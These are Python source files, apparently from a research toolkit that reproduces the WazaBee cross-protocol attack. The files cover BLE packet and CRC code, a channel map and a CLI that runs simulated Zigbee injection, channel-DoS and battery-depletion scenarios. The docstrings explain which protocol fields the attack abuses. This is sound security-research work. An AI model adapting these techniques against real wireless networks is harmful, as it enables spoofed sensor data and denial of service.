            pdu, crc_ok = parse_pdu_bits(bits, channel=self.channel)
        except ValueError:
            return
        if len(pdu) < 8:
            return
        advertisement = Advertisement(
            time=self.chip.transceiver.medium.scheduler.now,
            channel=self.channel,
            pdu_type=pdu[0] & 0x0F,
            advertiser_address=bytes(pdu[2:8]),
            adv_data=bytes(pdu[8:]),
            crc_ok=crc_ok,
        )
        self.advertisements.append(advertisement)
        if self._handler is not None:
            self._handler(advertisement)
