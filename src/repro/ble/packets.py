"""BLE link-layer packet formats and on-air bit assembly.

Covers the packet machinery WazaBee needs:

* the generic on-air format — preamble / Access Address / PDU / CRC-24,
  with channel whitening (§III-B of the paper);
* legacy advertising PDUs (ADV_NONCONN_IND) for ordinary BLE traffic;
* the *extended advertising* chain (ADV_EXT_IND → AUX_ADV_IND) with the
  Common Extended Advertising Payload, which Scenario A abuses: the
  AUX_ADV_IND is sent on a CSA#2-chosen data channel at LE 2M and carries
  up to 255 bytes of attacker-controlled advertising data.

Byte order: multi-byte fields are little-endian; every byte is transmitted
LSB-first (handled by :mod:`repro.utils.bits`).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from enum import Enum
from typing import List, Optional, Tuple

import numpy as np

from repro.ble.crc import ADVERTISING_CRC_INIT, ble_crc24_bits, ble_crc24
from repro.ble.whitening import whiten
from repro.utils.bits import (
    bits_to_bytes,
    bits_to_int,
    bytes_to_bits,
    int_to_bits,
)

__all__ = [
    "ADVERTISING_ACCESS_ADDRESS",
    "PhyMode",
    "PduType",
    "AdStructure",
    "manufacturer_data",
    "AdvNonconnInd",
    "AuxPtr",
    "Adi",
    "ExtendedAdvertisingPdu",
    "assemble_on_air_bits",
    "access_address_bits",
    "preamble_bits",
    "OnAirPacket",
]

ADVERTISING_ACCESS_ADDRESS = 0x8E89BED6
MAX_EXTENDED_ADV_DATA = 255


class PhyMode(Enum):
    """BLE physical layers relevant to the attack (LE Coded is out of scope)."""

    LE_1M = "1M"
    LE_2M = "2M"

    @property
    def symbol_rate(self) -> float:
        return 1e6 if self is PhyMode.LE_1M else 2e6

    @property
    def preamble_bytes(self) -> int:
        return 1 if self is PhyMode.LE_1M else 2


class PduType(Enum):
    """Advertising-channel PDU types (Core spec vol 6, part B, §2.3)."""

    ADV_IND = 0x0
    ADV_DIRECT_IND = 0x1
    ADV_NONCONN_IND = 0x2
    SCAN_REQ = 0x3
    SCAN_RSP = 0x4
    CONNECT_IND = 0x5
    ADV_SCAN_IND = 0x6
    ADV_EXT_IND = 0x7  # also AUX_ADV_IND / AUX_CHAIN_IND / ...


def access_address_bits(access_address: int) -> np.ndarray:
    """Access Address as 32 on-air bits (LSB of the value first)."""
    return int_to_bits(access_address, 32, order="lsb")


def preamble_bits(access_address: int, phy: PhyMode) -> np.ndarray:
    """Alternating preamble whose first bit equals the AA's first bit."""
    first = access_address & 1
    length = 8 * phy.preamble_bytes
    bits = np.empty(length, dtype=np.uint8)
    bits[0::2] = first
    bits[1::2] = first ^ 1
    return bits


# ---------------------------------------------------------------------------
# Advertising data (AD) structures
# ---------------------------------------------------------------------------


@dataclass(frozen=True)
class AdStructure:
    """One advertising-data element: length / AD type / payload."""

    ad_type: int
    payload: bytes

    def to_bytes(self) -> bytes:
        if not 0 <= self.ad_type <= 0xFF:
            raise ValueError("AD type must fit one byte")
        if len(self.payload) > 254:
            raise ValueError("AD payload too long")
        return bytes([len(self.payload) + 1, self.ad_type]) + self.payload

    @staticmethod
    def parse_all(data: bytes) -> List["AdStructure"]:
        out: List[AdStructure] = []
        offset = 0
        while offset < len(data):
            length = data[offset]
            if length == 0:
                break
            chunk = data[offset + 1 : offset + 1 + length]
            if len(chunk) < length:
                raise ValueError("truncated AD structure")
            out.append(AdStructure(ad_type=chunk[0], payload=bytes(chunk[1:])))
            offset += 1 + length
        return out


MANUFACTURER_SPECIFIC_DATA = 0xFF


def manufacturer_data(company_id: int, data: bytes) -> AdStructure:
    """Manufacturer-specific AD structure — Scenario A's carrier field."""
    if not 0 <= company_id <= 0xFFFF:
        raise ValueError("company id must be 16-bit")
    return AdStructure(
        MANUFACTURER_SPECIFIC_DATA,
        company_id.to_bytes(2, "little") + bytes(data),
    )


# ---------------------------------------------------------------------------
# Legacy advertising
# ---------------------------------------------------------------------------


@dataclass
class AdvNonconnInd:
    """Legacy non-connectable undirected advertisement."""

    advertiser_address: bytes
    adv_data: bytes = b""

    def to_pdu(self) -> bytes:
        if len(self.advertiser_address) != 6:
            raise ValueError("advertiser address must be 6 bytes")
        if len(self.adv_data) > 31:
            raise ValueError("legacy advertising data limited to 31 bytes")
        payload = self.advertiser_address + bytes(self.adv_data)
        header = bytes([PduType.ADV_NONCONN_IND.value, len(payload)])
        return header + payload


# ---------------------------------------------------------------------------
# Extended advertising
# ---------------------------------------------------------------------------


@dataclass(frozen=True)
class AuxPtr:
    """AuxPtr extended-header field: where the AUX_ADV_IND will appear."""

    channel: int
    phy: PhyMode
    offset_usec: int = 300
    clock_accuracy: int = 0

    def to_bytes(self) -> bytes:
        if not 0 <= self.channel <= 36:
            raise ValueError("AuxPtr channel must be a data channel (0-36)")
        offset_units = 1 if self.offset_usec >= 245_700 else 0
        unit = 300 if offset_units == 0 else 30_000
        aux_offset = self.offset_usec // unit
        if aux_offset >= 1 << 13:
            raise ValueError("aux offset out of range")
        phy_code = 0 if self.phy is PhyMode.LE_1M else 1
        word = (
            self.channel
            | (self.clock_accuracy & 1) << 6
            | offset_units << 7
            | aux_offset << 8
            | phy_code << 21
        )
        return word.to_bytes(3, "little")

    @staticmethod
    def from_bytes(raw: bytes) -> "AuxPtr":
        if len(raw) != 3:
            raise ValueError("AuxPtr is 3 bytes")
        word = int.from_bytes(raw, "little")
        channel = word & 0x3F
        clock_accuracy = (word >> 6) & 1
        offset_units = (word >> 7) & 1
        aux_offset = (word >> 8) & 0x1FFF
        phy_code = (word >> 21) & 0x7
        unit = 300 if offset_units == 0 else 30_000
        phy = PhyMode.LE_1M if phy_code == 0 else PhyMode.LE_2M
        return AuxPtr(
            channel=channel,
            phy=phy,
            offset_usec=aux_offset * unit,
            clock_accuracy=clock_accuracy,
        )


@dataclass(frozen=True)
class Adi:
    """Advertising Data Info: set id + data id, links ADV_EXT_IND to its AUX."""

    did: int = 0
    sid: int = 0

    def to_bytes(self) -> bytes:
        if not 0 <= self.did < 1 << 12 or not 0 <= self.sid < 1 << 4:
            raise ValueError("ADI fields out of range")
        return ((self.sid << 12) | self.did).to_bytes(2, "little")

    @staticmethod
    def from_bytes(raw: bytes) -> "Adi":
        word = int.from_bytes(raw, "little")
        return Adi(did=word & 0xFFF, sid=word >> 12)


_FLAG_ADVA = 1 << 0
_FLAG_TARGETA = 1 << 1
_FLAG_CTE = 1 << 2
_FLAG_ADI = 1 << 3
_FLAG_AUXPTR = 1 << 4
_FLAG_SYNCINFO = 1 << 5
_FLAG_TXPOWER = 1 << 6


@dataclass
class ExtendedAdvertisingPdu:
    """ADV_EXT_IND / AUX_ADV_IND with the Common Extended Advertising Payload.

    Which one it represents depends on the fields present: the ADV_EXT_IND on
    primary channels carries ADI + AuxPtr and no data; the AUX_ADV_IND on the
    secondary channel carries AdvA + ADI (+ TxPower) and the advertising
    data.  The attacker-relevant property is the *fixed, predictable* byte
    layout in front of the advertising data (the paper's "padding").
    """

    advertiser_address: Optional[bytes] = None
    adi: Optional[Adi] = None
    aux_ptr: Optional[AuxPtr] = None
    tx_power: Optional[int] = None
    adv_mode: int = 0  # 00 = non-connectable, non-scannable
    adv_data: bytes = b""

    def extended_header(self) -> bytes:
        flags = 0
        body = b""
        if self.advertiser_address is not None:
            if len(self.advertiser_address) != 6:
                raise ValueError("advertiser address must be 6 bytes")
            flags |= _FLAG_ADVA
            body += self.advertiser_address
        if self.adi is not None:
            flags |= _FLAG_ADI
            body += self.adi.to_bytes()
        if self.aux_ptr is not None:
            flags |= _FLAG_AUXPTR
            body += self.aux_ptr.to_bytes()
        if self.tx_power is not None:
            flags |= _FLAG_TXPOWER
            body += np.int8(self.tx_power).tobytes()
        if flags:
            return bytes([flags]) + body
        return b""

    def to_pdu(self) -> bytes:
        if len(self.adv_data) > MAX_EXTENDED_ADV_DATA:
            raise ValueError("extended advertising data limited to 255 bytes")
        ext = self.extended_header()
        if len(ext) > 63:
            raise ValueError("extended header too long")
        first = (len(ext) & 0x3F) | ((self.adv_mode & 0x3) << 6)
        payload = bytes([first]) + ext + bytes(self.adv_data)
        if len(payload) > 255:
            raise ValueError("extended advertising PDU payload exceeds 255 bytes")
        header = bytes([PduType.ADV_EXT_IND.value, len(payload)])
        return header + payload

    def data_offset_in_pdu(self) -> int:
        """Offset of ``adv_data`` from the start of the PDU, in bytes.

        This is the quantity Scenario A must know to pre-de-whiten the
        payload correctly (the paper's 16-byte padding figure counts this
        plus the AD-structure framing inside ``adv_data``).
        """
        return 2 + 1 + len(self.extended_header())

    @staticmethod
    def from_pdu(pdu: bytes) -> "ExtendedAdvertisingPdu":
        if len(pdu) < 3:
            raise ValueError("PDU too short")
        pdu_type = pdu[0] & 0x0F
        if pdu_type != PduType.ADV_EXT_IND.value:
            raise ValueError(f"not an extended advertising PDU (type {pdu_type})")
        length = pdu[1]
        payload = pdu[2 : 2 + length]
        if len(payload) < 1 or len(payload) != length:
            raise ValueError("truncated extended advertising PDU")
        ext_len = payload[0] & 0x3F
        adv_mode = payload[0] >> 6
        ext = payload[1 : 1 + ext_len]
        if len(ext) != ext_len:
            raise ValueError("truncated extended header")
        result = ExtendedAdvertisingPdu(adv_mode=adv_mode)
        if ext_len:
            flags = ext[0]
            cursor = 1

            def take(n: int) -> bytes:
                nonlocal cursor
                chunk = ext[cursor : cursor + n]
                if len(chunk) != n:
                    raise ValueError("truncated extended header field")
                cursor += n
                return chunk

            if flags & _FLAG_ADVA:
                result.advertiser_address = take(6)
            if flags & _FLAG_TARGETA:
                take(6)
            if flags & _FLAG_CTE:
                take(1)
            if flags & _FLAG_ADI:
                result.adi = Adi.from_bytes(take(2))
            if flags & _FLAG_AUXPTR:
                result.aux_ptr = AuxPtr.from_bytes(take(3))
            if flags & _FLAG_SYNCINFO:
                take(18)
            if flags & _FLAG_TXPOWER:
                result.tx_power = int(np.frombuffer(take(1), dtype=np.int8)[0])
        result.adv_data = bytes(payload[1 + ext_len :])
        return result


# ---------------------------------------------------------------------------
# On-air assembly
# ---------------------------------------------------------------------------


@dataclass
class OnAirPacket:
    """A fully assembled link-layer packet ready for the modulator."""

    bits: np.ndarray
    access_address: int
    pdu: bytes
    channel: int
    phy: PhyMode

    @property
    def pdu_bit_offset(self) -> int:
        """Index of the first PDU bit inside :attr:`bits`."""
        return 8 * self.phy.preamble_bytes + 32


def assemble_on_air_bits(
    pdu: bytes,
    channel: int,
    phy: PhyMode = PhyMode.LE_1M,
    access_address: int = ADVERTISING_ACCESS_ADDRESS,
    whitening: bool = True,
    include_crc: bool = True,
    crc_init: int = ADVERTISING_CRC_INIT,
) -> OnAirPacket:
    """Build the complete on-air bit sequence for a PDU.

    ``whitening=False`` and ``include_crc=False`` model the radio
    configuration freedoms that WazaBee's TX primitive requires (§IV-D).
    """
    parts = [preamble_bits(access_address, phy), access_address_bits(access_address)]
    body = bytes_to_bits(pdu)
    if include_crc:
        body = np.concatenate([body, ble_crc24_bits(pdu, init=crc_init)])
    if whitening:
        body = whiten(body, channel)
    parts.append(body)
    return OnAirPacket(
        bits=np.concatenate(parts),
        access_address=access_address,
        pdu=bytes(pdu),
        channel=channel,
        phy=phy,
    )


def check_crc(pdu: bytes, crc_value: int, crc_init: int = ADVERTISING_CRC_INIT) -> bool:
    """Validate a received PDU against its CRC register value."""
    return ble_crc24(pdu, init=crc_init) == crc_value


def parse_pdu_bits(
    body_bits: np.ndarray,
    channel: int,
    whitening: bool = True,
    crc_init: int = ADVERTISING_CRC_INIT,
) -> Tuple[bytes, bool]:
    """Decode PDU+CRC bits captured after the Access Address.

    Returns ``(pdu, crc_ok)``.  The PDU length is read from the link-layer
    header (second byte), so *body_bits* must contain at least the header.
    """
    bits = whiten(body_bits, channel) if whitening else np.asarray(body_bits)
    if bits.size < 16:
        raise ValueError("capture shorter than a PDU header")
    header = bits_to_bytes(bits[:16])
    pdu_len = 2 + header[1]
    total = 8 * pdu_len + 24
    if bits.size < total:
        raise ValueError(
            f"capture too short: need {total} bits for PDU+CRC, have {bits.size}"
        )
    pdu = bits_to_bytes(bits[: 8 * pdu_len])
    crc_value = bits_to_int(bits[8 * pdu_len : total], order="msb")
    return pdu, check_crc(pdu, crc_value, crc_init=crc_init)
