"""BLE CRC-24 (Bluetooth Core spec vol 6, part B, §3.1.1).

Polynomial ``x^24 + x^10 + x^9 + x^6 + x^4 + x^3 + x + 1`` (0x65B with the
top term implicit).  The register is preset to ``0x555555`` on advertising
channels; PDU bits enter LSB-first per byte and the final register is
transmitted most-significant bit first.

The paper's RX primitive requires *disabling* this check on the diverted
chip, because 802.15.4 frames are never valid BLE frames; the chip models in
:mod:`repro.chips` expose that capability switch.
"""

from __future__ import annotations

import numpy as np

from repro.utils.crc import CrcEngine

__all__ = ["BLE_CRC24_POLY", "ADVERTISING_CRC_INIT", "ble_crc24", "ble_crc24_bits"]

BLE_CRC24_POLY = 0x65B
ADVERTISING_CRC_INIT = 0x555555

_ENGINE = CrcEngine(width=24, polynomial=BLE_CRC24_POLY, init=ADVERTISING_CRC_INIT)


def ble_crc24(pdu: bytes, init: int = ADVERTISING_CRC_INIT) -> int:
    """CRC-24 of a PDU as a 24-bit integer (register value)."""
    if init == ADVERTISING_CRC_INIT:
        return _ENGINE.compute(pdu)
    return CrcEngine(width=24, polynomial=BLE_CRC24_POLY, init=init).compute(pdu)


def ble_crc24_bits(pdu: bytes, init: int = ADVERTISING_CRC_INIT) -> np.ndarray:
    """CRC-24 as on-air bits (most significant bit first)."""
    engine = (
        _ENGINE
        if init == ADVERTISING_CRC_INIT
        else CrcEngine(width=24, polynomial=BLE_CRC24_POLY, init=init)
    )
    return engine.digest_bits(pdu, order="msb")
