"""Bluetooth Low Energy protocol substrate (lower layers).

Implements exactly the parts of the Bluetooth Core specification that the
WazaBee attack touches:

* channel maps and centre frequencies (:mod:`repro.ble.channels`);
* data whitening (:mod:`repro.ble.whitening`);
* the CRC-24 (:mod:`repro.ble.crc`);
* packet formats — legacy advertising and the LE 2M extended-advertising
  chain Scenario A abuses (:mod:`repro.ble.packets`);
* Channel Selection Algorithm #2 (:mod:`repro.ble.csa2`), which decides the
  secondary advertising channel and is the reason the smartphone attacker
  can only select a Zigbee channel probabilistically;
* a minimal link layer for advertising/scanning (:mod:`repro.ble.link_layer`).
"""

from repro.ble.channels import (
    ADVERTISING_CHANNELS,
    DATA_CHANNELS,
    channel_frequency_hz,
    channel_for_frequency,
)
from repro.ble.crc import ADVERTISING_CRC_INIT, ble_crc24
from repro.ble.whitening import whiten
from repro.ble.csa2 import Csa2Session

__all__ = [
    "ADVERTISING_CHANNELS",
    "DATA_CHANNELS",
    "channel_frequency_hz",
    "channel_for_frequency",
    "ble_crc24",
    "ADVERTISING_CRC_INIT",
    "whiten",
    "Csa2Session",
]
