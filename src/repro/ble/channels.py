"""BLE RF channel map (Bluetooth Core spec vol 6, part A, §2).

Forty 2 MHz-wide channels in the 2.4 GHz ISM band.  Channels 37/38/39 are
the primary advertising channels at 2402/2426/2480 MHz; data channels 0–36
fill the remaining even frequencies from 2404 MHz, skipping 2426 MHz.

The paper's Table II is the intersection of this map with the 802.15.4
channel map — see :mod:`repro.core.channel_map`.
"""

from __future__ import annotations

from typing import Dict, Optional, Tuple

__all__ = [
    "ADVERTISING_CHANNELS",
    "DATA_CHANNELS",
    "ALL_CHANNELS",
    "CHANNEL_BANDWIDTH_HZ",
    "channel_frequency_hz",
    "channel_for_frequency",
    "is_advertising_channel",
    "whitening_init",
]

ADVERTISING_CHANNELS: Tuple[int, ...] = (37, 38, 39)
DATA_CHANNELS: Tuple[int, ...] = tuple(range(37))
ALL_CHANNELS: Tuple[int, ...] = tuple(range(40))
CHANNEL_BANDWIDTH_HZ: float = 2e6

_MHZ = 1e6


def channel_frequency_hz(channel: int) -> float:
    """Centre frequency of a BLE channel index (0–39) in hertz."""
    if channel == 37:
        return 2402 * _MHZ
    if channel == 38:
        return 2426 * _MHZ
    if channel == 39:
        return 2480 * _MHZ
    if 0 <= channel <= 10:
        return (2404 + 2 * channel) * _MHZ
    if 11 <= channel <= 36:
        return (2428 + 2 * (channel - 11)) * _MHZ
    raise ValueError(f"invalid BLE channel index {channel}")


_FREQ_TO_CHANNEL: Dict[float, int] = {
    channel_frequency_hz(ch): ch for ch in ALL_CHANNELS
}


def channel_for_frequency(frequency_hz: float) -> Optional[int]:
    """Inverse of :func:`channel_frequency_hz`; ``None`` if not a BLE centre."""
    return _FREQ_TO_CHANNEL.get(float(frequency_hz))


def is_advertising_channel(channel: int) -> bool:
    """True for the three primary advertising channels."""
    return channel in ADVERTISING_CHANNELS


def whitening_init(channel: int) -> int:
    """Whitening LFSR seed for a channel: bit 6 set, bits 5..0 = index.

    Bluetooth Core spec vol 6, part B, §3.2: position 0 of the register is
    one, positions 1–6 hold the channel index MSB..LSB.  With our register
    convention (stage 1 = MSB of the integer state) that is ``1 << 6``
    OR the 6-bit channel index.
    """
    if not 0 <= channel <= 39:
        raise ValueError(f"invalid BLE channel index {channel}")
    return (1 << 6) | channel
