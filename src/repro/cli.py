"""Command-line interface: ``python -m repro <command>``.

Gives downstream users one-command access to every reproduction artefact:

* ``table1`` / ``table2`` / ``alg1`` — print the paper's static tables;
* ``table3`` — run the per-channel primitive assessment (configurable
  frame count, chips, channels);
* ``scenario-a`` / ``scenario-b`` — run the attack scenarios (Scenario B
  optionally against an AES-CCM*-secured network);
* ``similarity`` — compute the modulation-similarity matrix;
* ``symmetric`` — quantify the reverse (Zigbee→BLE) pivot bound.
"""

from __future__ import annotations

import argparse
import sys
from typing import List, Optional

__all__ = ["main", "build_parser"]


def _add_obs_args(sub: argparse.ArgumentParser) -> None:
    """Observability flags shared by every simulation-running command."""
    sub.add_argument(
        "--trace",
        metavar="FILE",
        default=None,
        help="write the run's trace events to FILE as JSON Lines",
    )
    sub.add_argument(
        "--metrics",
        action="store_true",
        help="print the run's metrics block after the results",
    )


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="repro",
        description="WazaBee (DSN 2021) reproduction toolkit",
    )
    sub = parser.add_subparsers(dest="command", required=True)

    sub.add_parser("table1", help="print Table I (PN sequences)")
    sub.add_parser("table2", help="print Table II (common channels)")
    sub.add_parser("alg1", help="print the Algorithm 1 correspondence table")

    t3 = sub.add_parser("table3", help="run the Table III assessment")
    t3.add_argument("--frames", type=int, default=100, help="frames per cell")
    t3.add_argument(
        "--chips",
        nargs="+",
        default=["nRF52832", "CC1352-R1"],
        help="chip models to assess",
    )
    t3.add_argument(
        "--channels",
        type=int,
        nargs="+",
        default=None,
        help="Zigbee channels (default: 11-26)",
    )
    t3.add_argument("--seed", type=int, default=1)
    t3.add_argument(
        "--workers",
        type=int,
        default=1,
        metavar="N",
        help="fan the independent cells out over N worker processes "
        "(results are bit-identical to the serial run)",
    )
    t3.add_argument(
        "--chaos",
        default=None,
        metavar="PROFILE",
        help="run under a named fault-injection profile "
        "(clean, dropout, drifting, flaky-rx, harsh, jammer)",
    )
    _add_obs_args(t3)

    sa = sub.add_parser("scenario-a", help="smartphone injection (Figure 4)")
    sa.add_argument("--duration", type=float, default=60.0, help="simulated seconds")
    sa.add_argument("--channel", type=int, default=14, help="target Zigbee channel")
    sa.add_argument("--seed", type=int, default=7)
    _add_obs_args(sa)

    sb = sub.add_parser("scenario-b", help="tracker attack chain (Figure 5)")
    sb.add_argument("--duration", type=float, default=40.0)
    sb.add_argument("--dos-channel", type=int, default=26)
    sb.add_argument("--seed", type=int, default=5)
    sb.add_argument(
        "--secure",
        action="store_true",
        help="enable AES-CCM* on the target network (the §VII counter-measure)",
    )
    _add_obs_args(sb)

    sim = sub.add_parser("similarity", help="modulation similarity matrix")
    sim.add_argument("--snr", type=float, default=None, help="AWGN SNR in dB")
    sim.add_argument("--bits", type=int, default=2048)

    sub.add_parser("symmetric", help="reverse-pivot (Zigbee→BLE) bound")

    return parser


def _cmd_table1(_args) -> int:
    from repro.experiments.reports import render_table1

    print(render_table1())
    return 0


def _cmd_table2(_args) -> int:
    from repro.experiments.reports import render_table2

    print(render_table2())
    return 0


def _cmd_alg1(_args) -> int:
    from repro.experiments.reports import render_correspondence

    print(render_correspondence())
    return 0


def _cmd_table3(args) -> int:
    from repro.dot15d4.channels import ZIGBEE_CHANNELS
    from repro.experiments.table3 import format_table3, run_table3

    if args.chaos is not None:
        from repro.faults import profile_names

        if args.chaos not in profile_names():
            print(
                f"unknown chaos profile {args.chaos!r}; choose from "
                f"{', '.join(profile_names())}",
                file=sys.stderr,
            )
            return 2
    channels = tuple(args.channels) if args.channels else ZIGBEE_CHANNELS
    if args.workers < 1:
        print("--workers must be >= 1", file=sys.stderr)
        return 2
    result = run_table3(
        frames=args.frames,
        channels=channels,
        chips=tuple(args.chips),
        seed=args.seed,
        fault_profile=args.chaos,
        workers=args.workers,
        collect_trace=args.trace is not None,
    )
    if args.chaos is not None:
        print(f"chaos profile: {args.chaos}")
    print(format_table3(result))
    if args.trace is not None:
        from repro.obs import write_events_jsonl

        events = []
        for (chip, primitive), rows in sorted(result.cells.items()):
            for channel in sorted(rows):
                cell_id = f"{chip}/{primitive}/{channel}"
                for event in rows[channel].trace_events:
                    events.append({**event, "cell": cell_id})
        write_events_jsonl(events, args.trace)
        print(f"trace: {len(events)} events -> {args.trace}")
    if args.metrics:
        for (chip, primitive), rows in sorted(result.cells.items()):
            for channel in sorted(rows):
                print(f"[metrics {chip}/{primitive}/ch{channel}]")
                for name, value in rows[channel].metrics.items():
                    print(f"  {name} = {value}")
    return 0


def _finish_obs(args, registry, recorder) -> None:
    """Write the trace file and print the metrics block, as requested."""
    if recorder is not None:
        from repro.obs import write_events_jsonl

        write_events_jsonl(recorder.as_dicts(), args.trace)
        print(f"trace: {len(recorder.events)} events -> {args.trace}")
    if args.metrics:
        print("[metrics]")
        print(registry.format())


def _cmd_scenario_a(args) -> int:
    from repro.experiments.scenarios import run_scenario_a
    from repro.obs import TraceRecorder, scoped

    # The scope opens before the scenario constructs its testbed, so every
    # component binds the command's private bus/registry pair.
    with scoped() as (bus, registry):
        recorder = TraceRecorder(bus) if args.trace is not None else None
        result = run_scenario_a(
            duration_s=args.duration, zigbee_channel=args.channel, seed=args.seed
        )
        print(f"advertising events:        {result.events_total}")
        print(
            f"events on target channel:  {result.events_on_target} "
            f"(hit rate {result.hit_rate:.4f}, CSA#2 expectation 0.0270)"
        )
        print(f"forged readings displayed: {result.injected_received}")
        _finish_obs(args, registry, recorder)
    return 0 if result.injected_received else 1


def _cmd_scenario_b(args) -> int:
    from repro.attacks.scenario_b import AttackPhase
    from repro.experiments.scenarios import run_scenario_b
    from repro.obs import TraceRecorder, scoped

    with scoped() as (bus, registry):
        recorder = TraceRecorder(bus) if args.trace is not None else None
        result = run_scenario_b(
            duration_s=args.duration,
            dos_channel=args.dos_channel,
            seed=args.seed,
            security_key=bytes(range(16)) if args.secure else None,
        )
    for line in result.log:
        print(line)
    print(f"final phase:          {result.final_phase.value}")
    print(f"sensor channel after: {result.sensor_channel_after}")
    print(
        f"display entries:      {result.legitimate_entries} legitimate, "
        f"{result.spoofed_entries} spoofed"
    )
    _finish_obs(args, registry, recorder)
    attack_succeeded = (
        result.final_phase is AttackPhase.DONE
        and result.sensor_channel_after == args.dos_channel
    )
    if args.secure:
        return 0 if not attack_succeeded else 1
    return 0 if attack_succeeded else 1


def _cmd_similarity(args) -> int:
    from repro.core.similarity import similarity_matrix, viable_pivots
    from repro.experiments.reports import render_similarity_matrix

    matrix = similarity_matrix(num_bits=args.bits, snr_db=args.snr)
    print(render_similarity_matrix(matrix))
    print()
    for tx, rx, ber in viable_pivots(matrix):
        print(f"viable pivot: {tx} -> {rx} (BER {ber:.4f})")
    return 0


def _cmd_symmetric(_args) -> int:
    from repro.experiments.symmetric import attempt_symmetric_pivot

    result = attempt_symmetric_pivot()
    print(f"target on-air bits:    {result.target_bits}")
    print(
        f"best achievable match: {result.matched_bits} "
        f"({result.match_fraction:.1%})"
    )
    print(f"BLE sync-word fired:   {result.sync_found}")
    print(f"BLE CRC accepted:      {result.crc_ok}")
    return 0


_COMMANDS = {
    "table1": _cmd_table1,
    "table2": _cmd_table2,
    "alg1": _cmd_alg1,
    "table3": _cmd_table3,
    "scenario-a": _cmd_scenario_a,
    "scenario-b": _cmd_scenario_b,
    "similarity": _cmd_similarity,
    "symmetric": _cmd_symmetric,
}


def main(argv: Optional[List[str]] = None) -> int:
    args = build_parser().parse_args(argv)
    return _COMMANDS[args.command](args)


if __name__ == "__main__":  # pragma: no cover
    sys.exit(main())
