"""Command-line interface: ``python -m repro <command>``.

Gives downstream users one-command access to every reproduction artefact:

* ``table1`` / ``table2`` / ``alg1`` — print the paper's static tables;
* ``table3`` — run the per-channel primitive assessment (configurable
  frame count, chips, channels; ``--wideband`` sweeps every channel at
  once from polyphase-channelized band captures);
* ``scenario-a`` / ``scenario-b`` — run the attack scenarios (Scenario B
  optionally against an AES-CCM*-secured network);
* ``similarity`` — compute the modulation-similarity matrix;
* ``symmetric`` — quantify the reverse (Zigbee→BLE) pivot bound;
* ``serve`` — run the supervised streaming sniffer service (JSONL/PCAP
  subscriber sessions over a Unix socket, with bounded queues,
  backpressure and replay);
* ``fleet`` — run the fleet-scale energy-depletion campaign (multi-PAN
  topology on the spatially sharded medium, per-node battery curves,
  exact delivery-ledger check).
"""

from __future__ import annotations

import argparse
import sys
from contextlib import contextmanager
from typing import Iterator, List, Optional

__all__ = ["main", "build_parser"]


def _add_obs_args(sub: argparse.ArgumentParser) -> None:
    """Observability flags shared by every simulation-running command."""
    sub.add_argument(
        "--trace",
        metavar="FILE",
        default=None,
        help="write the run's trace events to FILE as JSON Lines",
    )
    sub.add_argument(
        "--metrics",
        action="store_true",
        help="print the run's metrics block after the results",
    )


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="repro",
        description="WazaBee (DSN 2021) reproduction toolkit",
    )
    sub = parser.add_subparsers(dest="command", required=True)

    sub.add_parser("table1", help="print Table I (PN sequences)")
    sub.add_parser("table2", help="print Table II (common channels)")
    sub.add_parser("alg1", help="print the Algorithm 1 correspondence table")

    t3 = sub.add_parser("table3", help="run the Table III assessment")
    t3.add_argument("--frames", type=int, default=100, help="frames per cell")
    t3.add_argument(
        "--chips",
        nargs="+",
        default=["nRF52832", "CC1352-R1"],
        help="chip models to assess",
    )
    t3.add_argument(
        "--channels",
        type=int,
        nargs="+",
        default=None,
        help="Zigbee channels (default: 11-26)",
    )
    t3.add_argument("--seed", type=int, default=1)
    t3.add_argument(
        "--workers",
        type=int,
        default=1,
        metavar="N",
        help="fan the independent cells out over N worker processes "
        "(results are bit-identical to the serial run)",
    )
    t3.add_argument(
        "--chaos",
        default=None,
        metavar="PROFILE",
        help="run under a named fault-injection profile "
        "(clean, dropout, drifting, flaky-rx, harsh, jammer)",
    )
    t3.add_argument(
        "--wideband",
        action="store_true",
        help="sweep all channels at once from wideband band captures "
        "(polyphase channelizer + batched tensor decode) instead of one "
        "narrowband testbed per cell",
    )
    t3.add_argument(
        "--wideband-mode",
        choices=("spectral", "time", "sequential"),
        default="spectral",
        help="wideband front-end path: 'spectral' (production fast path), "
        "'time' (compose_band + channelize through the real subsystem) or "
        "'sequential' (per-channel differential reference); all three "
        "draw identical random streams",
    )
    _add_obs_args(t3)

    sa = sub.add_parser("scenario-a", help="smartphone injection (Figure 4)")
    sa.add_argument("--duration", type=float, default=60.0, help="simulated seconds")
    sa.add_argument("--channel", type=int, default=14, help="target Zigbee channel")
    sa.add_argument("--seed", type=int, default=7)
    _add_obs_args(sa)

    sb = sub.add_parser("scenario-b", help="tracker attack chain (Figure 5)")
    sb.add_argument("--duration", type=float, default=40.0)
    sb.add_argument("--dos-channel", type=int, default=26)
    sb.add_argument("--seed", type=int, default=5)
    sb.add_argument(
        "--secure",
        action="store_true",
        help="enable AES-CCM* on the target network (the §VII counter-measure)",
    )
    _add_obs_args(sb)

    fleet = sub.add_parser(
        "fleet",
        help="fleet-scale energy-depletion campaign on the sharded medium",
    )
    fleet.add_argument("--nodes", type=int, default=50, help="total node count")
    fleet.add_argument("--pans", type=int, default=4, help="number of PANs")
    fleet.add_argument(
        "--duration", type=float, default=3.0, help="simulated seconds"
    )
    fleet.add_argument("--seed", type=int, default=0)
    fleet.add_argument(
        "--flood-rate",
        type=float,
        default=200.0,
        metavar="HZ",
        help="attacker frames/second per PAN",
    )
    fleet.add_argument(
        "--medium",
        choices=("sharded", "dense", "dense-unbounded"),
        default="sharded",
        help="medium implementation ('dense' keeps the sharded range "
        "cutoff; results are byte-identical, only slower)",
    )
    fleet.add_argument(
        "--workers",
        type=int,
        default=1,
        metavar="N",
        help="fan per-channel PAN groups out over N worker processes "
        "(results identical to the serial run)",
    )
    fleet.add_argument(
        "--sample-interval", type=float, default=0.5, metavar="S",
        help="battery/alive sampling period",
    )
    fleet.add_argument(
        "--no-mesh",
        action="store_true",
        help="pure star topologies (no router relays)",
    )
    fleet.add_argument(
        "--no-attack",
        action="store_true",
        help="baseline run without the WazaBee flooders",
    )
    fleet.add_argument(
        "--channel-reuse",
        action="store_true",
        help="put every PAN on one channel (spatial-reuse workload)",
    )
    fleet.add_argument(
        "--chaos",
        default=None,
        metavar="PROFILE",
        help="run under a named fault-injection profile (requires "
        "--workers 1)",
    )
    _add_obs_args(fleet)

    sim = sub.add_parser("similarity", help="modulation similarity matrix")
